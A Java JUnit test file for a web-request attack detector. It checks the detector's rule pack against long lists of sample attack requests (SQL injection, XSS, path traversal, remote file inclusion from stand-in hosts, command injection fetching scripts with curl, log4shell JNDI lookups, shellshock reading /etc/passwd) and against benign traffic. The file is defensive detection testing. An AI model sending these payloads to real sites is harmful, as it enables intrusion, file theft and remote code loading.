package org.evident.detect;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.evident.log.LineParser;
import org.evident.log.HeaderField;
import org.evident.log.Request;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The built-in rule pack (../rules), judged on attacks of every class and on benign traffic. */
public class RulePackTest {
  static Detector detector;

  public static List<RuleFile> builtIn() throws IOException {
    List<RuleFile> files = new ArrayList<>();
    for (String l : Files.readAllLines(Path.of("../rules/default.list"))) {
      if (!l.isBlank() && !l.startsWith("#")) {
        files.add(new RuleFile(l, Files.readString(Path.of("../rules", l))));
      }
    }
    return files;
  }

  @BeforeAll
  static void load() throws IOException {
    detector = new Detector(RuleSet.parse(builtIn()));
  }

  static Request get(String target, String agent, int status) {
    return new Request(0, "192.0.2.1", null, "GET", target, "HTTP/1.1", status, 1, null, agent,
        null);
  }

  @ParameterizedTest(name = "{1}: {0}")
  @CsvSource(delimiter = '|', value = {
      "/p?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--|sqli|",
      "/p?id=1'%20or%20'1'='1|sqli|",
      "/p?id=1%20AND%201=1|sqli|",
      "/p?id=1%27%29%20AND%20SLEEP%285%29%23|sqli|",
      "/p?id=1;DROP%20TABLE%20users|sqli|",
      "/p?id=1/**/UnIoN/**/SeLeCt/**/1,2|sqli|",
      "/p?id=%2531%2527%2520or%25201%253D1|sqli|",
      "/p?u=admin'--|sqli|",
      "/p?u=admin'%20--%20-|sqli|",
      "/p?u=admin'%20--%20x|sqli|",
      "/p?u=admin'--%20aYbT|sqli|",
      "/p?u=admin'%20--%20ab%20|sqli|",
      "/p?u=it's%20x'%20or%20'a'%3D'a|sqli|",
      "/p?id=1%20and%20extractvalue(1,concat(0x7e,version()))|sqli|",
      "/s?q=%3Cscript%3Ealert(1)%3C/script%3E|xss|",
      "/s?q=%22%3E%3Csvg/onload=alert(1)%3E|xss|",
      "/s?q=%26lt;img%20src=x%20onerror=prompt(1)%26gt;|xss|",
      "/s?q=javascript%3Aalert(document.domain)|xss|",
      "/s?q=%u003cscript%u003e|xss|",
      "/d?f=../../../../etc/passwd|traversal|",
      "/static/..%252f..%252fetc%252fshadow|traversal|",
      "/d?f=..%c0%af..%c0%afboot.ini|traversal|",
      "/d?f=php://filter/convert.base64-encode/resource=index.php|traversal|",
      "/files//etc/security/passwd|traversal|",
      "/d?f=Li4vLi4vLi4vZXRjL3Bhc3N3ZA%3D%3D|traversal|",
      "/|traversal|/etc/init.d/apache2",
      "/|traversal|c:\\Program Files\\Apache Group\\Apache\\logs\\error.log",
      "/i?page=http://198.51.100.7/shell.txt?|rfi|",
      "/i?page=http://evil.example/c99.php|rfi|",
      "/c?h=127.0.0.1;cat%20/etc/hosts|cmdi|",
      "/c?h=x%7Cid|cmdi|",
      "/c?h=$(whoami)|cmdi|",
      "/c?h=a%0aid|cmdi|",
      "/|cmdi|uname -a",
      "/|cmdi|; net view",
      "/|cmdi|perl -e 'print 1'",
      "/|cmdi|whoami",
      "/files/ls%20-l%20/etc/|cmdi|",
      "/c?h=x%3B%20sleep%2010|cmdi|",
      "/files/curl%20https://x.example/a.sh|cmdi|",
      "/c?h=%26%20pwd|cmdi|",
      "/c?h=%27%20whoami|cmdi|",
      "/files/%22%20whoami|cmdi|",
      "/files/sleep%205|cmdi|",
      "/|cmdi|; dir",
      "/|cmdi|;id\\n",
      "/|cmdi|\\necho INJECTX\\nexit",
      "/s?q=%7B%7B7*7%7D%7D|cmdi|",
      "/s?q=%24%7B7*7%7D|cmdi|",
      "/s?q=%7B%7B%27%27.__class__.__mro__%7D%7D|cmdi|",
      "/p?id=0x77616974666f722064656c6179|sqli|",
      "/p?id=0x730065006c00650063007400|sqli|",
      "/p?q=PRINT%20@@version|sqli|",
      "/login?user=*%29%28%7C%28objectclass%3D*%29%29|ldapi|",
      "/login?user=*(%7C(mail=*))|ldapi|",
      "/files/*(%7C(objectclass=*))|ldapi|",
      "/p?q=1%20uni%2F**%2Fon%20sel%2F**%2Fect%201|sqli|",
      "/p?q=hi%22%22)%20or%20(%22%22a%22%22=%22%22a|sqli|",
      "/p?q=x%20or%20%27a%27=%27a|sqli|",
      "/p?q=1%E2%80%B2)%20and%20%271%E2%80%B2=%271|sqli|",
      "/p?id=1or1=1|sqli|",
      "/p?u=x%20or%20username%20like%20char(37)|sqli|",
      "/p?id=%5Cx27UNION%20SELECT%201|sqli|",
      "/s?q=%7B%7B4%2B4%7D%7D|cmdi|",
      "/s?q=%7B%25%20for%20c%20in%20%5B1,2%5D%25%7D%7B%7Bc%7D%7D%7B%25%20endfor%25%7D|cmdi|",
      "/files/..%25c0%252f..%25c0%252fetc|traversal|",
      "/files/%25c0%252e%25c0%252e/%25c0%252e%25c0%252e/|traversal|",
      "/files/..%uEFC8..%uEFC8boot.ini|traversal|",
      "/d?f=etc%5Cpasswd|traversal|",
      "/d?f=etc%C0%AFpasswd|traversal|",
      "/d?f=/proc/cpuinfo|traversal|",
      "/d?f=/var/adm/messages|traversal|",
      "/d?f=%2F.netrc|traversal|",
      "/files//var/log|traversal|",
      "/files//Program%20Files%5CApache%20Group%5CApache%5Cconf%5Chttpd.conf|traversal|",
      "/d?f=D:%5Cinetpub%5Cwwwroot%5Cglobal.asa|traversal|",
      "/logs/access.log|sensitive-file|",
      "/apache%5Cphp%5Cphp.ini|sensitive-file|",
      "/p?cmd=ls%20-l%20/etc/|cmdi|",
      "/search?q=%27|sqli|",
      "/files/%22%20%22|sqli|",
      "/p?q=%27sqlvuln|sqli|",
      "/p?q=hi%20or%20a=a|sqli|",
      "/p?q=%26apos;%20OR|sqli|",
      "/p?q=%7C%7C%276|sqli|",
      "/p?q=password:*/=1--|sqli|",
      "/p?q=1%5C%271|sqli|",
      "/p?q=exec%28@s%29|sqli|",
      "/p?q=%20--%20%26password=|sqli|",
      "/files/%20or%20isNULL(1/0)%20/*|sqli|",
      "/p?q=%27sleep%2050%27|sqli|",
      "/p?q=%2528|evasion|",
      "/|evasion|%28",
      "/c?h=%3B%20|cmdi|",
      "/export.csv?sep=%3B&q=%3B|cmdi|",
      "/files/%7C%7C%20|cmdi|",
      "/files/%5Cr%5Cn|cmdi|",
      "/|cmdi|\\r\\n",
      "/c?h=%7Cnid|cmdi|",
      "/|log4shell|${jndi:ldap://x.example/a}",
      "/?x=%24%7B%24%7B::-j%7Dndi:rmi://x.example/a%7D|log4shell|",
      "/cgi-bin/status|shellshock|() { :; }; echo; /bin/cat /etc/passwd",
      "/.env|sensitive-file|",
      "/.git/config|sensitive-file|",
      "/wp-config.php.bak|sensitive-file|",
      "/backup.sql.gz|sensitive-file|",
      "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php|admin-probe|",
      "/|scanner|Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)",
      "/|scanner|gobuster/3.6"})
  void detectsAttacks(String target, String attackClass, String agent) {
    Verdict v = detector.judge(get(target, agent, 200), "site");
    assertThat(v.attack()).as("%s %s", target, v).isTrue();
    assertThat(v.attackClass()).as("%s", v).isEqualTo(attackClass);
    assertThat(v.matches()).allSatisfy(m -> assertThat(m.fragment()).isNotBlank());
    // a scan's workers judge through their thread's judge: the same verdict
    Verdict w = detector.forThisThread().judge(get(target, agent, 200), "site");
    assertThat(w.ruleIds()).isEqualTo(v.ruleIds());
    assertThat(w.score()).isEqualTo(v.score());
  }

  /** Tools test the headers too: a Referer that is only a quote or a separator is a probe. */
  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {"%27|sqli|true", "%22%20%22|sqli|true",
      "%3B%20|cmdi|true", "-|evident|false", "https://shop.example/?q=%27|evident|false",
      // a click on a search result: the search's URL, a quotation's dash before the page
      "https://shop.example/search?q=That%2Bis%2Ball%2B--&page=1|evident|false",
      "https://shop.example/search?q=%22Nay%2C%22%2Bor%2B%22yea%22&page=2|evident|false",
      // payloads in a Referer's argument, name or path are judged as the request's own
      "https://x.example/item?id=1%27%20union%20select%201,2--&page=2|sqli|true",
      "https://x.example/?%3Cscript%3Ealert(1)%3C/script%3E|xss|true",
      "https://x.example/a?x=1&%3Cimg%20src=x%20onerror=alert(1)%3E=2|xss|true",
      "https://x.example/%3Cscript%3Ealert(1)%3C/script%3E?q=1|xss|true",
      "https://x.example/a?f=../../../../etc/passwd|traversal|true"})
  void probesInTheReferer(String encoded, String attackClass, boolean attack) {
    String referer = java.net.URLDecoder.decode(encoded, java.nio.charset.StandardCharsets.UTF_8);
    Request r = new Request(0, "192.0.2.1", null, "GET", "/", "HTTP/1.1", 200, 1, referer,
        "Mozilla/5.0", null);
    Verdict v = detector.judge(r, "s");
    assertThat(v.attack()).as("%s %s", referer, v).isEqualTo(attack);
    if (attack) {
      assertThat(v.attackClass()).isEqualTo(attackClass);
    }
    // again, for another page: a Referer with a query is then answered by the thread's memo
    Request next = new Request(0, "192.0.2.1", null, "GET", "/style.css", "HTTP/1.1", 200, 1,
        referer, "Mozilla/5.0", null);
    assertThat(detector.judge(next, "s").matches()).isEqualTo(v.matches());
  }

  /**
   * {@link Target#REFERER_URL}: the part before the query, then each argument's value named by
   * it, and a name that is no plain word; empty parts left out; a Referer without a query is
   * itself, whole.
   */
  @ParameterizedTest(name = "{0}")
  @CsvSource(delimiter = '|', value = {
      "https://a.example/p?q=x+y&page=1|https://a.example/p=null, x+y=q, 1=page",
      "https://a.example/p|https://a.example/p=null",
      "/p?q=&=v&&flag&f[a]=1|/p=null, v=, flag=null, 1=f[a]",
      "?%3Cb%3E=1|1=%3Cb%3E, %3Cb%3E=null",
      "https://a.example/?a=1=2|https://a.example/=null, 1=2=a"})
  void aRefererIsReadInItsParts(String referer, String expected) {
    RequestTargets t = new RequestTargets(new Request(0, "192.0.2.1", null, "GET", "/",
        "HTTP/1.1", 200, 1, referer, "Mozilla/5.0", null));
    List<String> parts = new ArrayList<>();
    for (int i = 0; i < t.size(Target.REFERER_URL); i++) {
      parts.add(t.get(Target.REFERER_URL, i) + "=" + t.name(Target.REFERER_URL, i));
    }
    assertThat(String.join(", ", parts)).isEqualTo(expected);
    assertThat(t.values(Target.REFERER)).containsExactly(referer);
  }

  /** A {@code header: Referer} entry excuses what a rule found in the Referer's parts too. */
  @Test
  void aRefererEntryCoversItsParts() {
    Detector d = new Detector(RuleSet.parse(List.of(new RuleFile("l.yaml", String.join("\n",
        "rules:", "  - {id: L-1, class: sqli, msg: m, targets: [referer_url, args], rx: 'union'}",
        "allow:", "  - {rule: L-1, header: Referer}")))), Detector.DEFAULT_THRESHOLD, 1);
    Request clicked = new Request(0, "192.0.2.1", null, "GET", "/a", "HTTP/1.1", 200, 1,
        "https://s.example/search?q=union", "Mozilla/5.0", null);
    Verdict v = d.judge(clicked, "s");
    assertThat(v.attack()).isFalse();
    assertThat(v.excused()).extracting(e -> e.match().target()).containsExactly("referer_url:q");
    Request both = new Request(0, "192.0.2.1", null, "GET", "/a?x=union", "HTTP/1.1", 200, 1,
        "https://s.example/search?q=union", "Mozilla/5.0", null);
    assertThat(d.judge(both, "s").ruleIds()).containsExactly("L-1");
  }

  @Test
  void adminProbesCountOnlyWhenTheSiteHasNoSuchPage() {
    // the same path again and again: the per-value cache must key status-limited rules by status
    for (int round = 0; round < 2; round++) {
      assertThat(detector.judge(get("/wp-login.php", "x", 404), "s").attackClass())
          .isEqualTo("admin-probe");
      assertThat(detector.judge(get("/wp-login.php", "x", 200), "s").attack()).isFalse();
    }
  }

  /** Double encoding is its own signal: it explains and adds to a score, never an attack alone. */
  @ParameterizedTest(name = "{0}")
  @CsvSource(delimiter = '|', value = {
      "/r?next=https%253A%252F%252Fshop.example%252Fa|false|",
      "/p?q=%2527abc|false|",
      "/files/a%252Fb|false|",
      "/p?q=%u00252F|false|",
      "/p?id=1%2527%2520or%25201%253D1|true|sqli",
      "/d?f=..%252f..%252fetc%252fpasswd|true|traversal"})
  void doubleEncodingIsASignalOfItsOwn(String target, boolean attack, String attackClass) {
    Verdict v = detector.judge(get(target, "Mozilla/5.0", 200), "s");
    assertThat(v.matches()).extracting(Match::ruleId).as("%s", v).contains("EV-920230");
    assertThat(v.attack()).as("%s", v).isEqualTo(attack);
    assertThat(v.attackClass()).isEqualTo(attackClass == null ? "evasion" : attackClass);
  }

  @Test
  void aPercentSignTypedByTheVisitorIsNoSignal() {
    assertThat(detector.judge(get("/p?q=100%25+cotton&d=50%25", "Mozilla/5.0", 200), "s")
        .matches()).isEmpty();
  }

  @Test
  void namesTools() {
    Verdict v = detector.judge(get("/p?id=1%20AND%205621=5621", "sqlmap/1.7.2#stable", 200),
        "s");
    assertThat(v.attackClass()).isEqualTo("sqli");
    assertThat(v.tool()).isEqualTo("sqlmap");
    assertThat(detector.judge(get("/p?id=1%20AND%205621=5621", "Mozilla/5.0", 200), "s").tool())
        .as("request shape").isEqualTo("sqlmap");
  }

  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {
      "/search?q=select+a+shoe", "/search?q=O%27Brien", "/search?q=rock+%26+roll",
      "/search?q=union+jack+socks", "/search?q=what+is+1%3D1", "/s?q=%E9%9E%8B%E5%AD%90",
      "/contact?subject=Where%27s+my+order%3F", "/api?items=%5B%7B%22id%22%3A4%7D%5D",
      "/?utm_source=news&fbclid=IwAR2xYz_09-aZ", "/auth?token=eyJhbGciOiJIUzI1NiJ9.eyJzIjoxfQ.x",
      "/products/trail-boot-17?color=brown&size=44", "/blog/how-to-choose", "/robots.txt",
      "/static/app.3f9a1c.js", "/login?next=%2Faccount", "/downloads/manual.zip",
      "/search?q=tom+%26+jerry", "/search?q=drop+shipping", "/wp-login.php",
      "//images/logo.png", "/shop//usr-guide/etc.html", "/t?state=Li4vabc",
      "/%7B%7Bitem.url%7D%7D", "/search?q=7*7%3D49", "/theme?color=0x64a0ff",
      "/guides/sleep%205%20tips", "/search?q=sleep+5+hours", "/search?q=(a+%7C+b)+or+c",
      "/search?q=%40%40+operator", "/search?q=css+a%2F*note*%2Fb", "/files/*/readme",
      "/search?q=cats+or+%27dogs%27", "/search?q=%22to+be%22+or+%22not+to+be%22",
      "/search?q=reunion+select+tickets", "/search?q=4or4+ticket", "/search?q=%7B%7Bitem.name%7D%7D",
      "/search?q=100%25+%7B%25+wool+%25%7D", "/search?q=%3D%3D", "/search?q=%21%3D",
      "/search?q=%2F%2F", "/search?q=%7C%7C+operator", "/search?q=6%272", "/search?q=%5Cn",
      "/search?q=-", "/r?next=%252Fcart%253Fa%253D1", "/search?q=voil%C3%A0.",
      "/search?q=%2Fusr%2Fnews%2Fgotcha", "/p?next=/dev/docs", "/p?next=/sys/admin",
      "/p?next=/logs/2026", "/search?q=ls+-l", "/guides/access-log-format",
      "/export.csv?sep=%3B&quotechar=%22", "/export.csv?delimiter=%7C",
      "/search?q=Try+%60stty+0%27+--+it+works+much+better.",
      "/search?q=Nezvannyi+gost%27--khuzhe+tatarina.",
      "/search?q=I%27d+crawl+over+%27Visual+This%2B%2B%27+and+%27Integrated+Development"})
  void leavesBenignTrafficAlone(String target) {
    leavesBenignAgentsAlone(target, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
        + " AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36");
  }

  /** Tools name themselves, some with nothing but their name: not a command line. */
  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {"curl", "curl/8.5.0", "Wget/1.21.4", "python-requests/2.31",
      "Python-urllib/3.11", "PHP/8.2", "Echobot", "net/http", "ping-o-matic", "Go-http-client/1.1",
      "Dev/1.0", "Sys/2 (compatible)", "Root/3.1", "Var/1",
      "Mozilla/5.0 (compatible; ToutiaoSpider/1.0; http://web.toutiao.com/media_cooperation/;)"})
  void leavesToolAgentsAlone(String agent) {
    leavesBenignAgentsAlone("/robots.txt", agent);
  }

  private static void leavesBenignAgentsAlone(String target, String agent) {
    Verdict v = detector.judge(get(target, agent, 200), "s");
    assertThat(v.attack()).as("%s %s", target, v).isFalse();
  }

  @ParameterizedTest(name = "{0} -> attack {1}")
  @CsvSource(delimiter = '|', value = {
      "/search?q=evil+thing|false",
      "/search?%71=evil|false",
      "/search?q=fine&x=evil|true",
      "/search?q=evil&x=evil|true",
      "/evil/search?q=evil|true",
      "/search/evil?q=evil|true",
      "/other?q=evil|true"})
  void anArgumentAllowListExcusesOnlyThatArgument(String target, boolean attack) {
    Detector d = new Detector(RuleSet.parse(List.of(new RuleFile("t.yaml", """
        rules:
          - {id: T-1, class: sqli, msg: t, targets: [args, query, path, uri], rx: evil}
        allow:
          - {rule: T-1, arg: q, path: '^/search'}
        """))));
    assertThat(d.judge(get(target, "x", 200), "s").attack()).as(target).isEqualTo(attack);
  }

  /** A page whose own name trips a rule: the path is excused there, the rest is not. */
  @ParameterizedTest(name = "{0} {1} -> attack {2}")
  @CsvSource(delimiter = '|', value = {
      "/TR/page.xhtml|Mozilla/5.0|false",
      "/TR/page.xhtml?lang=en|Mozilla/5.0|false",
      "/TR/page.xhtml?q=xhtml|Mozilla/5.0|true",
      "/TR/page.xhtml|xhtml-bot|true",
      "/TR/other.xhtml|Mozilla/5.0|true"})
  void aPathAllowListExcusesOnlyThePath(String target, String agent, boolean attack) {
    Detector d = new Detector(RuleSet.parse(List.of(new RuleFile("t.yaml", """
        rules:
          - {id: T-1, class: xss, msg: t, targets: [args, path, uri, user_agent], rx: xhtml}
        allow:
          - {rule: T-1, target: path, path: '^/TR/page\\.xhtml$'}
        """))));
    assertThat(d.judge(get(target, agent, 200), "s").attack()).as(target).isEqualTo(attack);
  }

  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {"{rule: T-1, target: uri}|target can only be path",
      "{rule: T-1, target: path, arg: q}|target can only be path",
      "{rule: T-1, target: path, cookie: c}|target can only be path",
      "{rule: T-1, arg: q, cookie: c}|name one argument, cookie or header, not several",
      "{rule: T-1, header: Accept, cookie: c}|name one argument, cookie or header, not several",
      "{rule: T-1, target: path, header: Accept}|target can only be path",
      "{rule: T-1, header: 'Accept Language'}|'accept language' is not a header name"})
  void anAllowTargetIsThePathAlone(String entry, String message) {
    assertThatThrownBy(() -> RuleSet.parse(List.of(new RuleFile("t.yaml",
        "rules:\n  - {id: T-1, class: xss, msg: t, targets: [path], rx: x}\nallow:\n  - "
            + entry + "\n")))).hasMessageContaining(message);
  }

  /** A dropped match stays in the verdict, named with its entry, and scores nothing. */
  @Test
  void anExcusedMatchNamesItsEntryAndScoresNothing() {
    Detector d = new Detector(RuleSet.parse(List.of(new RuleFile("t.yaml", """
        rules:
          - {id: T-1, class: xss, msg: t, targets: [args], rx: evil}
          - {id: T-2, class: xss, msg: t, targets: [args], rx: bad}
        allow:
          - {rule: T-9, arg: q}
          - {rule: T-1, arg: q}
        """))));
    Verdict v = d.judge(get("/p?q=evil", "x", 200), "s");
    assertThat(v.attack()).isFalse();
    assertThat(v.clean()).isTrue();
    assertThat(v.score()).isZero();
    assertThat(v.excused()).extracting(e -> e.match().ruleId(), Verdict.Excused::allow)
        .containsExactly(org.assertj.core.groups.Tuple.tuple("T-1", "t.yaml, allow entry 2"));
    Verdict both = d.judge(get("/p?q=evil+bad", "x", 200), "s");
    assertThat(both.attack()).isTrue();
    assertThat(both.matches()).extracting(Match::ruleId).containsExactly("T-2");
    assertThat(both.excused()).hasSize(1);
    assertThat(d.judge(get("/p?q=fine", "x", 200), "s")).isSameAs(Verdict.CLEAN);
  }

  /** Entries that excused a match together are all named, compactly when in one file. */
  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {
      "t.yaml, allow entry 1 ; t.yaml, allow entry 2 | t.yaml, allow entries 1 and 2",
      "t.yaml, allow entry 1 ; t.yaml, allow entry 3 ; t.yaml, allow entry 4"
          + " | t.yaml, allow entries 1, 3 and 4",
      "a.yaml, allow entry 1 ; b.yaml, allow entry 2"
          + " | a.yaml, allow entry 1 and b.yaml, allow entry 2",
  })
  void entriesThatExcuseTogetherAreAllNamed(String origins, String named) {
    List<Allow> entries = java.util.Arrays.stream(origins.split(";")).map(String::trim)
        .map(o -> new Allow("T-1", null, null, null, null, null, "q", null, o, null)).toList();
    assertThat(Detector.together(entries)).isEqualTo(named);
  }

  /** An entry for served pages only: the same name answered 404 is a probe, and counts. */
  @ParameterizedTest(name = "{0} -> attack {1}")
  @CsvSource(delimiter = '|', value = {"200|false", "206|false", "304|false", "404|true",
      "403|true", "500|true", "0|true"})
  void anAllowStatusExcusesOnlyThoseResponses(int status, boolean attack) {
    Detector d = new Detector(RuleSet.parse(List.of(new RuleFile("t.yaml", """
        rules:
          - {id: T-1, class: xss, msg: t, targets: [path], rx: xhtml}
        allow:
          - {rule: T-1, target: path, path: '^/TR/page\\.xhtml$', status: [2xx, 304]}
        """))));
    assertThat(d.judge(get("/TR/page.xhtml", "x", status), "s").attack()).isEqualTo(attack);
  }

  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {"2x", "600", "20", "[]", "'2٠٠'", "abc"})
  void anAllowStatusIsACodeOrAClass(String status) {
    assertThatThrownBy(() -> RuleSet.parse(List.of(new RuleFile("t.yaml",
        "rules:\n  - {id: T-1, class: xss, msg: t, targets: [path], rx: x}\nallow:\n"
            + "  - {rule: T-1, status: " + status + "}\n")))).hasMessageContaining("status");
    // a rule's status is read the same way: a misspelt one is refused, not read as 0
    assertThatThrownBy(() -> RuleSet.parse(List.of(new RuleFile("t.yaml",
        "rules:\n  - {id: T-1, class: xss, msg: t, targets: [path], rx: x, status: " + status
            + "}\n")))).hasMessageContaining("T-1").hasMessageContaining("status");
  }

  /** A rule for a class of responses: a probe of what exists only when it was not found. */
  @ParameterizedTest(name = "{0} -> attack {1}")
  @CsvSource(delimiter = '|', value = {"404|true", "410|true", "200|false", "500|false"})
  void aRuleStatusMayBeAClass(int status, boolean attack) {
    Detector d = new Detector(RuleSet.parse(List.of(new RuleFile("t.yaml",
        "rules:\n  - {id: T-1, class: xss, msg: t, targets: [path], rx: x, status: [4xx]}\n"))));
    assertThat(d.judge(get("/x", "a", status), "s").attack()).isEqualTo(attack);
  }

  /**
   * The literals a detector reads off a pattern are listed by pattern, and a later set of the
   * same rules runs on the lists it is given instead of reading them again.
   */
  @Test
  void patternLiteralsAreListedAndReused() {
    String yaml = """
        rules:
          - {id: T-20, class: sqli, msg: t, targets: [args], transforms: [urlDecodeUni],
             rx: 'union\\s+select'}
        """;
    RuleSet first = RuleSet.parse(List.of(new RuleFile("t.yaml", yaml)));
    assertThat(first.patternLiterals()).isEmpty(); // read when a detector first asks
    Detector d = new Detector(first);
    assertThat(d.judge(get("/p?q=1+union+select+2", "x", 200), "s").attack()).isTrue();
    java.util.Map<String, List<String>> read = first.patternLiterals();
    assertThat(read).containsOnlyKeys("union\\s+select");
    assertThat(read.get("union\\s+select")).isNotEmpty()
        .allSatisfy(l -> assertThat(l).endsWith("select")); // \s then "select"

    RuleSet again = RuleSet.parse(List.of(new RuleFile("t.yaml", yaml)));
    again.reusePatternLiterals(read);
    assertThat(again.patternLiterals()).isEqualTo(read);
    assertThat(new Detector(again).judge(get("/p?q=1+union+select+2", "x", 200), "s").attack())
        .isTrue();
    // the given lists are what the prefilter runs on: one no match holds keeps the rule off
    RuleSet told = RuleSet.parse(List.of(new RuleFile("t.yaml", yaml)));
    told.reusePatternLiterals(java.util.Map.of("union\\s+select", List.of("zzz")));
    assertThat(new Detector(told).judge(get("/p?q=1+union+select+2", "x", 200), "s").attack())
        .isFalse();
  }

  /**
   * A pattern named as compiled before is compiled when its rule first runs: one that RE2/J
   * refuses is then not reported at load (the caller vouched for it) but when it runs, while
   * unnamed it is a skipped CRS rule or an error in a rule file; a named pattern that compiles
   * judges as if compiled at once.
   */
  @Test
  void patternsCompiledBeforeCompileWhenFirstRun() {
    String bad = "(?<=a)b"; // lookbehind: RE2/J refuses it
    List<RuleFile> conf = List.of(new RuleFile("c.conf", String.join("\n",
        "SecRule ARGS \"@rx " + bad + "\" \"id:990010,phase:2,block,t:none,"
            + "severity:'CRITICAL',tag:'attack-x',tag:'paranoia-level/1'\"",
        "SecRule ARGS \"@rx union\\s+select\" \"id:990011,phase:2,block,t:none,"
            + "severity:'CRITICAL',tag:'attack-sqli',tag:'paranoia-level/1'\"", "")));
    RuleSet eager = RuleSet.parse(conf);
    assertThat(eager.skipped().values()).anySatisfy(ids -> assertThat(ids).contains("990010"));
    assertThat(eager.rules()).extracting(Rule::id).containsExactly("990011");

    java.util.Set<String> asked = new java.util.HashSet<>();
    RuleSet deferred = RuleSet.parse(conf, p -> asked.add(p) || true);
    assertThat(asked).contains(bad, "union\\s+select");
    assertThat(deferred.rules()).extracting(Rule::id).containsExactly("990010", "990011");
    assertThat(deferred.skipped()).isEmpty();
    Rule refused = deferred.rules().get(0);
    assertThatThrownBy(() -> refused.operator().find("ab"))
        .isInstanceOf(IllegalStateException.class).hasMessageContaining("does not compile");

    // likewise in Evident's own rule files, where a pattern RE2/J refuses is an error
    List<RuleFile> yaml = List.of(new RuleFile("t.yaml", "rules:\n  - {id: T-9, class: sqli,"
        + " msg: t, targets: [args], rx: '" + bad + "'}\n"));
    assertThatThrownBy(() -> RuleSet.parse(yaml)).hasMessageContaining("does not compile");
    assertThat(RuleSet.parse(yaml, p -> true).rules()).extracting(Rule::id)
        .containsExactly("T-9");

    RuleSet good = RuleSet.parse(List.of(new RuleFile("c.conf", conf.get(0).text()
        .substring(conf.get(0).text().indexOf('\n') + 1))), p -> true);
    Detector d = new Detector(good);
    assertThat(d.judge(get("/p?q=1+union+select+2", "x", 200), "s").ruleIds())
        .containsExactly("990011");
    assertThat(d.judge(get("/p?q=1+union+all", "x", 200), "s").clean()).isTrue();
  }

  /**
   * A site's own SecRules carry no paranoia tag, as CRS's untagged flow control does not either:
   * what reads the request and denies or scores is a detection at every level (a deny without a
   * severity as critical: ModSecurity stops the request); what skips or reads only TX steers.
   */
  @Test
  void aSitesOwnSecRulesDetect() {
    RuleSet rs = RuleSet.parse(List.of(new RuleFile("site.conf", String.join("\n",
        "SecRule REQUEST_FILENAME \"@beginsWith /internal/\" \"id:10001,phase:1,deny,"
            + "msg:'internal path'\"",
        "SecRule ARGS:q \"@contains wget\" \"id:10002,phase:2,pass,t:lowercase,"
            + "setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'\"",
        "SecRule REQUEST_HEADERS:User-Agent \"@contains probe\" \"id:10003,phase:1,block,"
            + "severity:'WARNING'\"",
        "SecRule TX:ANOMALY_SCORE \"@ge 5\" \"id:10004,phase:2,deny\"",
        "SecRule REQUEST_FILENAME \"@beginsWith /health\" \"id:10005,phase:1,pass,nolog,"
            + "skipAfter:END\"",
        "SecRule REQUEST_FILENAME \"@beginsWith /x\" \"id:10006,phase:1,pass,nolog,"
            + "setvar:tx.seen=1\"", "")))); 
    assertThat(rs.rules()).extracting(Rule::id).containsExactly("10001", "10002", "10003");
    assertThat(rs.rules()).allSatisfy(r -> assertThat(r.paranoia()).isEqualTo(1));
    assertThat(rs.skipped()).containsEntry("flow control or scoring (done natively)",
        List.of("10004", "10005", "10006"));
    Detector d = new Detector(rs);
    Verdict denied = d.judge(get("/internal/admin", "x", 200), "s");
    assertThat(denied.ruleIds()).containsExactly("10001");
    assertThat(denied.score()).isEqualTo(5);
    assertThat(d.judge(get("/s?q=WGET+x", "x", 200), "s").ruleIds()).containsExactly("10002");
    Verdict warned = d.judge(get("/s?q=1", "a probe", 200), "s");
    assertThat(warned.ruleIds()).containsExactly("10003");
    assertThat(warned.score()).isEqualTo(3);
    assertThat(d.judge(get("/health?q=1", "x", 200), "s").clean()).isTrue();
  }

  /**
   * A rule reads the arguments its variables name, and no other: the same value in another
   * argument, judged before or after (the detector caches values, not names), is not a match.
   * A first line that tests only a configuration value is decided on the files' values, and a
   * macro of an argument reads the request's value (CRS 920650).
   */
  @Test
  void rulesReadTheArgumentsTheyName() {
    RuleSet rs = RuleSet.parse(List.of(new RuleFile("site.conf", String.join("\n",
        "SecRule ARGS:q \"@contains wget\" \"id:10001,phase:2,deny,t:lowercase\"",
        "SecRule ARGS:/^utm_/ \"@contains curl\" \"id:10002,phase:2,deny\"",
        "SecRule ARGS|!ARGS:password \"@contains union\" \"id:10003,phase:2,deny\"",
        "SecAction \"id:10004,phase:1,pass,nolog,setvar:tx.override_allowed=0\"",
        "SecRule TX:override_allowed \"@eq 0\" \"id:10005,phase:2,deny,chain\"",
        "  SecRule REQUEST_METHOD \"!@streq %{ARGS._method}\" \"t:none,chain\"",
        "  SecRule ARGS:_method \"@rx ^[A-Z]{3,10}$\" \"t:none\"",
        "SecRule TX:override_allowed \"@eq 1\" \"id:10006,phase:2,deny,chain\"",
        "  SecRule ARGS \"@contains x\" \"t:none\"", ""))));
    assertThat(rs.rules()).extracting(Rule::id).containsExactly("10001", "10002", "10003",
        "10005");
    assertThat(rs.skipped()).containsEntry("off in this configuration (tx.override_allowed)",
        List.of("10006"));
    Detector d = new Detector(rs);
    for (int round = 0; round < 2; round++) { // the second round from the detector's caches
      assertThat(d.judge(get("/s?q=WGET", "x", 200), "s").ruleIds()).containsExactly("10001");
      assertThat(d.judge(get("/s?other=WGET", "x", 200), "s").clean()).isTrue();
      assertThat(d.judge(get("/s?Q=WGET", "x", 200), "s").ruleIds()).containsExactly("10001");
      assertThat(d.judge(get("/s?%71=WGET", "x", 200), "s").ruleIds()).containsExactly("10001");
      assertThat(d.judge(get("/s?utm_x=curl&a=curl", "x", 200), "s").matches())
